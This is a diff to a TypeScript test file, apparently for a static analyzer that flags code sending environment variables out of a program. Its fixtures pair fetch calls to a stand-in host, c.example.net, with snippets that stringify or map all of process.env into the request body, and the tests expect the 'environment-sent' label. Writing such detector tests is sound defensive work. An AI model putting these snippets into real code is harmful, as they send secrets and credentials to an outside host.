@@ -45,6 +45,10 @@ test('letters in a mathematical dress are read as Python reads them', () => {
 
 test('one variable of the environment is not all of it', () => {
   const sent = (code: string) => kinds(`${code}\nfetch("https://c.example.net", { body });\n`, 'javascript', 'a.js');
+  const asked = 'const key = await ask({ choices: Object.keys(process.env) });\nconst body = process.env[key];';
+  assert.deepEqual(sent(asked), []);
+  const counted = 'const choices = Object.keys(process.env).map((key) => process.env[key]);\nconst body = choices;';
+  assert.deepEqual(sent(counted), ['environment-sent']);
   assert.deepEqual(sent('const env = process.env;\nconst body = JSON.stringify(env);'), ['environment-sent']);
   assert.deepEqual(sent('const env = process.env;\nconst body = env.TOKEN;'), []);
   assert.deepEqual(sent('const find = (env = process.env) => env.TOKEN;\nconst body = find();'), []);
